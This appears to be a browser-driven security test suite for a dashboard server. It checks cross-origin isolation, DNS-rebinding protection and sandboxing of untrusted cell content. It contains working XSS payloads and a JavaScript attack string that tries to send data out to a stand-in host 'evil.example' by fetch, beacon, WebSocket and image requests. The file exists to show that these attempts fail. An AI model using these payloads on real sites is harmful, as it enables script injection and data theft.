"""What a stranger tries in a real browser: from a page of another site, and from inside what is shown."""

from __future__ import annotations

import shutil
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, NamedTuple
from urllib.parse import parse_qs, quote, urlsplit

import numpy as np
import pytest
import requests
from matplotlib.figure import Figure
from playwright.sync_api import Browser, Page, expect
from serving import Served, both_engines, served

from agnez.record import Batch, Finding, Json, Point, RunInfo
from agnez.render import Curves, Line, figure_html
from agnez.render.curves import draw_curves
from agnez.server import ports
from agnez.server.app import create_app
from agnez.server.embed import Serving
from agnez.store import Store

pytestmark = pytest.mark.slow

LURE = (Path(__file__).parent / "lure.html").read_text("utf-8")
engine = both_engines
SECRET: dict[str, Json] = {"_id": "secret", "type": "html", "value": "<p>secret</p>"}
FOREIGN = "evil.example"


# --- a page of another site ------------------------------------------------------------------------------------------


class Lurer(ThreadingHTTPServer):
    """Serve the stranger's page, and note what is asked of it."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.asked: list[str] = []


class _Handler(BaseHTTPRequestHandler):
    server: Lurer

    def do_GET(self) -> None:
        self.server.asked.append(self.path)
        body = LURE.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        if self.path.startswith("/boxed"):  # its origin is `null`, as that of a local file
            self.send_header("Content-Security-Policy", "sandbox allow-scripts allow-forms")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        """Log nothing."""


@pytest.fixture(scope="module")
def lurer() -> Iterator[Lurer]:
    """Open the stranger's server on a port of its own."""
    server = Lurer()
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
    thread.start()
    yield server
    server.shutdown()
    server.server_close()
    thread.join()


@pytest.fixture(scope="module")
def rebound(browser: Browser) -> Iterator[Browser]:
    """Open a browser in which a foreign name leads to this machine."""
    installed = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
    rules = f"--host-resolver-rules=MAP {FOREIGN} 127.0.0.1"
    browser = browser.browser_type.launch(executable_path=installed, args=["--no-sandbox", "--disable-gpu", rules])
    yield browser
    browser.close()


class Report(NamedTuple):
    """Say what a stranger's page got, and what it tried."""

    got: list[str]
    tried: list[str]
    origin: str


def lured(browser: Browser, url: str, *, forged: bool = False) -> Report:
    """Open the stranger's page; `forged` serves it at an address of our server's, as rebinding a name does."""
    context = browser.new_context()
    page = context.new_page()
    if forged:
        page.route(url, lambda route: route.fulfill(body=LURE, content_type="text/html"))
    page.goto(url)
    page.wait_for_function("window.report", timeout=60_000)
    report = Report(**page.evaluate("window.report"))
    context.close()
    return report


@pytest.mark.parametrize(
    ("lure", "target", "path"),
    [
        ("127.0.0.1", "127.0.0.1", ""),
        ("localhost", "localhost", ""),
        ("localhost", "127.0.0.1", "boxed"),
        (FOREIGN, "127.0.0.1", ""),
        (FOREIGN, FOREIGN, "boxed"),
    ],
)
def test_a_page_of_another_origin_reads_nothing_and_changes_nothing(
    server: Served, rebound: Browser, lurer: Lurer, lure: str, target: str, path: str
) -> None:
    with unharmed(server):
        report = lured(rebound, f"http://{lure}:{lurer.server_port}/{path}?target={target}:{server.port}")
    assert report.got == []
    assert len(report.tried) > 80
    assert report.origin == ("null" if path else f"http://{lure}:{lurer.server_port}")


def test_a_name_that_was_rebound_to_this_machine_reads_nothing_and_changes_nothing(
    server: Served, rebound: Browser
) -> None:
    place = f"{FOREIGN}:{server.port}"
    with unharmed(server):
        report = lured(rebound, f"http://{place}/lure?target={place}", forged=True)
    assert report.got == []
    assert report.origin == f"http://{place}"


def test_a_page_of_another_port_opens_no_session(server: Served) -> None:
    asked = {"Sec-Fetch-Site": "same-site", "Sec-Fetch-Mode": "no-cors"}
    assert server.call("GET", "/socket.io/?EIO=4&transport=polling", headers=asked).status_code == 403
    assert server.call("POST", "/values", {"a": 1}, headers=asked).status_code == 403
    assert server.call("GET", "/socket.io/?EIO=4&transport=polling", headers={"Sec-Fetch-Site": "same-origin"}).ok


def test_from_our_own_origin_the_same_attempts_succeed(server: Served, browser: Browser) -> None:
    server.call("POST", "/values", SECRET)
    report = lured(browser, f"{server.url}/lure?target={server.host}", forged=True)
    got = "\n".join(report.got)
    for way in (
        "read /values by fetch",
        "read /values by XMLHttpRequest",
        "frame /values",
        "websocket",
        "read /socket.io",
    ):
        assert way in got, got
    assert server.call("GET", "/values").json() != [SECRET]


@contextmanager
def unharmed(server: Served) -> Iterator[None]:
    """See that a secret stays as it is, and that no page but ours, which may stand in a frame, opens a session."""
    server.call("POST", "/values", SECRET)
    yield
    assert server.call("GET", "/values").json() == [SECRET]
    assert server.call("GET", "/runs").json() == []
    sessions = server.app.socketio.server.environ.values()
    assert [each for each in sessions if each.get("HTTP_ORIGIN") != f"http://{each['HTTP_HOST']}"] == []


# --- what a stranger has us show -------------------------------------------------------------------------------------

# Whatever runs anywhere notes so, then tries to reach our page, our server, and its own.
ATTACK = """
window.ran = true;
var tries = [
  function () { top.pwned = 1; }, function () { parent.pwned = 1; }, function () { opener.pwned = 1; },
  function () { parent.document.title = 'pwned'; }, function () { localStorage.setItem('pwned', 1); },
  function () { document.cookie = 'pwned=1'; }, function () { alert('pwned'); }, function () { open(LEAK); },
  function () { top.location = LEAK; }, function () { fetch(LEAK, {mode: 'no-cors'}); },
  function () { new Image().src = LEAK; }, function () { new WebSocket(LEAK.replace('http', 'ws')); },
  function () { navigator.sendBeacon(LEAK, 'x'); }, function () { new Worker(LEAK); },
  function () { fetch('/values', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: '{}'}); },
  function () { new WebSocket('ws://' + HOST + '/socket.io/?EIO=4&transport=websocket'); },
  function () { parent.postMessage({agnez: 'size', height: 1e300}, '*'); parent.postMessage({agnez: 'ready'}, '*'); },
  function () { document.body.appendChild(document.createElement('iframe')).src = LEAK; },
];
for (var i = 0; i < tries.length; i++) { try { Promise.resolve(tries[i]()).catch(function () {}); } catch (e) {} }
"""

# All of these run a script in the frame of a cell; LATER ones do not, or only when they are touched.
RUN = "hostile"
SCRIPTS = (
    "<script>{attack}</script>",
    '</div></body></html><script>{attack}</script><div class="',
    '<img src="nothing:" onerror="{attack}">',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="{attack}"><circle r="9"/></svg>',
    "</script></style></title></textarea><!-- --><script>{attack}</script>",
    '<details open ontoggle="{attack}"><summary>x</summary></details>',
)
LATER = (
    '<a href="javascript:window.ran=1;top.pwned=1">x</a>',
    '<meta http-equiv="refresh" content="0;url={leak}">',
    '<iframe srcdoc="<script>top.pwned=1;parent.parent.pwned=1</script>"></iframe><iframe src="{leak}"></iframe>',
    '<base href="{leak}"><link rel="stylesheet" href="{leak}"><script src="{leak}"></script><img src="{leak}">',
    '<style>@import "{leak}"; body {{ background: url("{leak}") }}</style>',
    '<object data="{leak}"></object><embed src="{leak}"><video src="{leak}" autoplay></video>',
    '<form action="{leak}" method="post"><input name="a"></form><script>document.forms[0].submit()</script>',
)
TITLES = (
    "<script>top.pwned=1</script>",
    "<img src=x onerror=top.pwned=1>",
    '"><svg onload=top.pwned=1>',
    "' autofocus onfocus=top.pwned=1 x='",
    "</script></style></title><script>top.pwned=1</script>",
    "{{constructor.constructor('top.pwned=1')()}} ${top.pwned=1} {@html '<img src=x onerror=top.pwned=1>'}",
    "javascript:top.pwned=1",
    "\u202e<b>top.pwned=1</b>\x00\u2028",
)


@pytest.fixture
def dashboard(store: Store, lurer: Lurer) -> Iterator[str]:
    """Serve a store that a stranger has filled, with the page, and return its address."""
    listener = ports.listen(0) or pytest.fail("no port is free")
    url = f"http://127.0.0.1:{listener.getsockname()[1]}"
    leak = f"http://{FOREIGN}:{lurer.server_port}/leak"
    attack = ATTACK.replace("LEAK", f"'{leak}'").replace("HOST", f"'{urlsplit(url).netloc}'")
    _add_run(store)
    serving = Serving(store, listener)
    serving.start()
    for record in _cells(attack, leak):
        assert requests.post(f"{url}/values", json=record, timeout=20).status_code == 201
    lurer.asked.clear()
    yield url
    serving.stop(goodbye=0)


def _add_run(store: Store) -> None:
    words = dict(zip(TITLES, TITLES, strict=True))
    info = RunInfo(RUN, TITLES[0], TITLES[1], 1, words, TITLES, "\n".join(TITLES), "failed", TITLES[2], ended=2)
    info = replace(info, problems=TITLES)
    points = [Point(title, step, 1 / (1 + step), step) for title in TITLES for step in range(9)]
    with store.create_run(info) as file:
        with file.transaction():
            file.append(Batch.of(points))
            file.write_findings(Finding(info.id, "x", "error", title, title, title, 0, 9) for title in TITLES)
        store.publish(file.info())


def _cells(attack: str, leak: str) -> Iterator[dict[str, Json]]:
    """Make a cell of each sort for each piece of markup; the scripts' come first."""
    quoted = attack.replace('"', "&quot;").replace("\n", " ")
    for place, markup in enumerate(SCRIPTS + LATER):
        value = markup.format(attack=quoted if '="{attack}"' in markup else attack, leak=leak)
        yield {"_id": f"{RUN}.html{place}", "run": RUN, "type": "html", "value": value, "pos": place, "name": markup}
    for place, title in enumerate(TITLES, 20):
        facts: dict[str, Json] = {"run": RUN, "pos": place, "name": title, "description": title}
        yield facts | {"type": "chart", "value": [], "metrics": list(TITLES)}
        yield facts | {"type": "img", "value": title}
        yield facts | {"type": title, "value": title}
    picture = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{quoted}'><script>{attack}</script></svg>"
    yield {"run": RUN, "type": "img", "pos": 40, "value": "data:image/svg+xml," + quote(picture)}
    line = Line(TITLES[0], np.arange(9.0), np.arange(9.0))
    lines = tuple(replace(line, label=title) for title in TITLES)
    figure = figure_html(draw_curves(Curves(TITLES[4], TITLES[2], lines)), themed=True)
    yield {"_id": f"{RUN}.curves", "run": RUN, "type": "html", "value": figure, "pos": 41}
    theirs = Figure()
    axes = theirs.subplots()
    axes.plot([1, 2], [3, 4], label=TITLES[1])
    axes.set(title=TITLES[4], xlabel=TITLES[0].replace("$", ""), ylabel=TITLES[2])
    axes.legend()
    yield {"_id": f"{RUN}.figure", "run": RUN, "type": "html", "value": figure_html(theirs), "pos": 42}


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_no_script_of_what_is_shown_runs_in_our_origin(
    dashboard: str, lurer: Lurer, rebound: Browser, theme: Any
) -> None:
    context = rebound.new_context(color_scheme=theme, viewport={"width": 1400, "height": 12_000})
    page = context.new_page()
    dialogs: list[str] = []
    popups: list[Page] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("popup", lambda popup: popups.append(popup))
    before = requests.get(f"{dashboard}/values", timeout=20).json()
    page.goto(f"{dashboard}/?run={RUN}")
    frames = len(SCRIPTS + LATER) + 2
    expect(page.locator("[data-testid=figure]")).to_have_count(frames, timeout=60_000)
    _check_page(page)
    _check_frames(page)
    assert (dialogs, popups) == ([], [])
    assert page.url.startswith(dashboard)
    assert context.cookies() == []
    assert requests.get(f"{dashboard}/values", timeout=20).json() == before
    assert lurer.asked == []
    context.close()


def _check_page(page: Page) -> None:
    """See that our document holds nothing that a stranger made, and that no inline script would run in it."""
    assert page.locator("[data-testid=cell]").count() > 30
    assert page.evaluate("window.pwned") is None and page.evaluate("window.ran") is None
    assert page.evaluate("Object.keys(localStorage).includes('pwned')") is False
    page.evaluate(
        """() => {
            const script = document.createElement("script");
            script.textContent = "window.inline = 1";
            document.body.append(script);
            script.remove();
            const picture = document.createElement("img");
            picture.setAttribute("onerror", "window.inline = 1");
            picture.dispatchEvent(new Event("error"));
        }"""
    )
    assert page.evaluate("window.inline") is None
    found = page.evaluate(
        """() => [...document.querySelectorAll("*")].flatMap((node) => [
            ...(["OBJECT", "EMBED", "BASE", "FORM"].includes(node.tagName) ? [node.tagName] : []),
            ...(node.tagName === "SCRIPT" && !node.src.startsWith(`${origin}/assets/`) ? ["SCRIPT"] : []),
            ...(node.tagName === "IFRAME" && node.getAttribute("sandbox") !== "allow-scripts" ? ["IFRAME"] : []),
            ...node.getAttributeNames().filter((name) => name.startsWith("on") || name === "srcdoc"),
            ...(/^\\s*javascript:/i.test(node.getAttribute("href") ?? "") ? ["href"] : []),
        ])"""
    )
    assert found == []


def _check_frames(page: Page) -> None:
    """See that the scripts did run where they may: in frames whose origin is their own, and which reached nothing."""
    cells = {}
    for frame in page.frames:
        place = urlsplit(frame.url)
        if place.path == "/frame" and frame.parent_frame == page.main_frame:
            cells[parse_qs(place.query)["cell"][0].removeprefix(f"{RUN}.")] = frame
    for place in range(len(SCRIPTS)):
        frame = cells[f"html{place}"]
        assert frame.evaluate("window.origin") == "null"
        assert frame.evaluate("window.ran") is True, SCRIPTS[place]
    for name in ("curves", "figure"):
        assert cells[name].evaluate("window.origin") == "null"
        assert cells[name].evaluate("[window.pwned, window.ran]") == [None, None]
        cells[name].wait_for_selector("svg")


def test_a_picture_with_a_script_that_is_opened_by_itself_is_shut_in(
    store: Store, tmp_path: Path, browser: Browser
) -> None:
    script = "window.ran = 1; try { document.cookie = 'pwned=1' } catch (e) {}"
    (tmp_path / "drawing.svg").write_text(
        f"<svg xmlns='http://www.w3.org/2000/svg' onload='window.ran = 1'><script>{script}</script></svg>"
    )
    (tmp_path / "page.html").write_text(f"<script>{script}</script>")
    with served(create_app(store, static=tmp_path)) as server:
        context = browser.new_context()
        page = context.new_page()
        for name in ("drawing.svg", "page.html"):
            page.goto(f"{server.url}/{name}")
            assert page.evaluate("[window.origin, window.ran]") == ["null", None]
        assert context.cookies() == []
        context.close()
